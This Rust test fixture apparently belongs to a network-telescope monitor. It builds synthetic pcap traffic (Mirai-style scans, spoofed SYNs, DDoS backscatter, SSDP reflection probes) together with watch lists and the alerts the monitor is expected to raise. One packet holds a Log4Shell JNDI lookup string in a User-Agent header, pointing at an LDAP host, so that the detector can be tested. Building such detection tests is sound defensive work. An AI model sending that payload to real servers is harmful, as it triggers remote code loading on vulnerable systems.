//! Packets of watched addresses: of hosts that scan and attack, of victims, and of others in whose name somebody else sends; and the list
//! that watches them.
#![allow(dead_code, reason = "each test uses a part of it")]

use std::collections::BTreeSet;
use std::path::{Path, PathBuf};

use serde_json::Value;

const SECOND_US: i64 = 1_000_000;
const SYN: u8 = 0x02;
const SYN_ACK: u8 = 0x12;
const RST_ACK: u8 = 0x14;

/// A network by its third octet: 11.0.N.0/24.
const SCANNER: u32 = 1;
const FORGED: u32 = 2;
const VICTIM: u32 = 3;
const CARPET: u32 = 4;
const EXPLOITED: u32 = 5;
const QUIET: u32 = 6;
const REFLECTED: u32 = 7;

fn host(network: u32, last: u32) -> u32 {
    0x0b00_0000 | network << 8 | last
}

/// A dark address.
fn dark(number: u32) -> u32 {
    0xc612_0000 + number
}

/// Packets with their times in order, from `start_us` on: what is watched happens in the first hour, others send for four.
pub(crate) fn packets(start_us: i64) -> Vec<(i64, Vec<u8>)> {
    let mut packets = Vec::new();
    let mut at =
        |seconds: i64, frame: Vec<u8>| packets.push((start_us + seconds * SECOND_US, frame));
    for number in 0..60 {
        // Mirai's mark: the sequence number is the destination.
        let to = dark(number);
        let scan = tcp(host(SCANNER, 7), (40_000, to, 23), SYN, to);
        at(60 + i64::from(number) * 10, scan);
        at(
            1_200 + i64::from(number),
            tcp(host(VICTIM, 9), (443, dark(number), 1_024), SYN_ACK, 7),
        );
    }
    // Forged: any address of the network, to any dark one.
    let mut state = 12_345_u32;
    for number in 0..700 {
        state = state.wrapping_mul(1_664_525).wrapping_add(1_013_904_223);
        let from = host(FORGED, state >> 24);
        at(
            600 + number / 2,
            tcp(from, (1_000, dark(state >> 12 & 0xfff), 80), SYN, state),
        );
    }
    for victim in 0..20 {
        for number in 0..3 {
            let frame = tcp(
                host(CARPET, victim),
                (53, dark(victim * 3 + number), 9),
                RST_ACK,
                0,
            );
            at(1_800 + i64::from(victim) * 5, frame);
        }
    }
    let exploit = b"GET /cgi-bin/x HTTP/1.1\r\nUser-Agent: ${jndi:ldap://11.0.5.5/a}\r\n\r\n";
    at(
        2_000,
        tcp_payload(host(EXPLOITED, 5), (41_000, dark(5), 8080), exploit),
    );
    at(2_400, tcp(host(QUIET, 5), (41_000, dark(5), 22), SYN, 9));
    at(2_500, tcp(host(QUIET, 6), (41_000, dark(5), 22), SYN, 9));
    for number in 0..120 {
        let search = b"M-SEARCH * HTTP/1.1\r\nMAN: \"ssdp:discover\"\r\n\r\n";
        at(
            3_000 + i64::from(number),
            udp(host(REFLECTED, 6), dark(number % 4), 1_900, search),
        );
    }
    // Somebody whom nobody watches, so that time goes on.
    for minute in 0..240 {
        at(
            minute * 60 + 1,
            udp(0x0c00_0001, dark(minute as u32), 53_001, b"hello"),
        );
    }
    packets.sort_by_key(|packet| packet.0);
    packets
}

/// What is told of these packets by their end: owner, state, kind, address, packets at the end.
pub(crate) fn expected() -> BTreeSet<String> {
    let mut expected = BTreeSet::new();
    for (owner, kind, address, packets) in [
        ("scanner", "scan", "11.0.1.7", 60),
        ("victim", "attack", "11.0.3.9", 60),
        ("carpet", "attack", "11.0.4.0/24", 60),
        ("exploited", "exploit", "11.0.5.5", 1),
    ] {
        expected.insert(format!("{owner} begins {kind} {address}"));
        expected.insert(format!("{owner} ended {kind} {address} {packets}"));
    }
    expected
}

/// Alerts, JSON lines, in the same form; those that go on are left out.
pub(crate) fn told(lines: &str) -> BTreeSet<String> {
    let alerts = lines
        .lines()
        .map(|line| serde_json::from_str::<Value>(line).expect("JSON"));
    let mut ids = BTreeSet::new();
    let mut told = BTreeSet::new();
    for alert in alerts {
        let text = |name: &str| alert[name].as_str().unwrap_or_default().to_owned();
        assert!(ids.insert(text("id")), "twice: {alert}");
        let address = text("src_ip") + &text("victim_ip");
        let (owner, state, kind) = (text("owner"), text("state"), text("kind"));
        let end = match &state[..] {
            "ongoing" => continue,
            "ended" => format!(" {}", alert["packets"]),
            _ => String::new(),
        };
        told.insert(format!("{owner} {state} {kind} {address}{end}"));
    }
    told
}

const OWNERS: [(&str, u32); 7] = [
    ("scanner", SCANNER),
    ("forged", FORGED),
    ("victim", VICTIM),
    ("carpet", CARPET),
    ("exploited", EXPLOITED),
    ("quiet", QUIET),
    ("reflected", REFLECTED),
];

/// Writes the list into `folder`, with these sinks.
pub(crate) fn list(folder: &Path, sinks: &str) -> PathBuf {
    write_list(folder, sinks, |network| {
        format!("prefixes = [\"11.0.{network}.0/24\"]")
    })
}

/// The same by AS numbers (RFC 5398, for documentation), and the file that says which network has which, as RouteViews' pfx2as does.
pub(crate) fn list_by_networks(folder: &Path) -> (PathBuf, PathBuf) {
    let number = |network: u32| 64_496 + network;
    let watch = write_list(folder, "", |network| {
        format!("asns = [{}]", number(network))
    });
    let line = |(_, network): (&str, u32)| format!("11.0.{network}.0\t24\t{}\n", number(network));
    let networks = folder.join("routeviews-rv2-20261101-1200.pfx2as");
    let lines: String = OWNERS.into_iter().map(line).collect();
    std::fs::write(&networks, lines).expect("writable");
    (watch, networks)
}

fn write_list(folder: &Path, sinks: &str, watched: impl Fn(u32) -> String) -> PathBuf {
    let mut text = String::new();
    for (owner, network) in OWNERS {
        text.push_str(&format!(
            "[[watch]]\nowner = \"{owner}\"\ncontact = \"{owner}@example.org\"\n{}\n",
            watched(network)
        ));
    }
    let path = folder.join("watch.toml");
    std::fs::write(&path, text + sinks).expect("writable");
    path
}

/// A capture of packets.
pub(crate) fn pcap<'p>(packets: impl IntoIterator<Item = &'p (i64, Vec<u8>)>) -> Vec<u8> {
    let mut bytes = Vec::new();
    for number in [0xa1b2_c3d4_u32, 0x0004_0002, 0, 0, 65_535, 1] {
        bytes.extend(number.to_le_bytes());
    }
    for (time_us, frame) in packets {
        let length = frame.len() as u32;
        let (seconds, micros) = (time_us / SECOND_US, time_us % SECOND_US);
        for number in [seconds as u32, micros as u32, length, length] {
            bytes.extend(number.to_le_bytes());
        }
        bytes.extend(frame);
    }
    bytes
}

fn ip(protocol: u8, from: u32, to: u32, rest: &[u8]) -> Vec<u8> {
    let mut frame = vec![2, 0, 0, 0, 0, 0x4d, 2, 0, 0, 0, 0, 1, 8, 0, 0x45, 0];
    frame.extend((rest.len() as u16 + 20).to_be_bytes());
    frame.extend([0, 1, 0, 0, 64, protocol, 0, 0]);
    frame.extend(from.to_be_bytes());
    frame.extend(to.to_be_bytes());
    frame.extend(rest);
    frame
}

/// A segment without options: ports, flags, and a sequence number.
pub(crate) fn tcp(
    from: u32,
    (from_port, to, port): (u16, u32, u16),
    flags: u8,
    sequence: u32,
) -> Vec<u8> {
    ip(6, from, to, &segment((from_port, port), flags, sequence))
}

fn tcp_payload(from: u32, (from_port, to, port): (u16, u32, u16), payload: &[u8]) -> Vec<u8> {
    let mut rest = segment((from_port, port), 0x18, 1);
    rest.extend(payload);
    ip(6, from, to, &rest)
}

fn segment((from_port, port): (u16, u16), flags: u8, sequence: u32) -> Vec<u8> {
    let mut rest = Vec::new();
    rest.extend(from_port.to_be_bytes());
    rest.extend(port.to_be_bytes());
    rest.extend(sequence.to_be_bytes());
    rest.extend([0, 0, 0, 0, 0x50, flags, 0x10, 0, 0, 0, 0, 0]);
    rest
}

fn udp(from: u32, to: u32, port: u16, payload: &[u8]) -> Vec<u8> {
    let mut rest = Vec::new();
    for half in [40_000, port, payload.len() as u16 + 8, 0] {
        rest.extend(u16::to_be_bytes(half));
    }
    rest.extend(payload);
    ip(17, from, to, &rest)
}
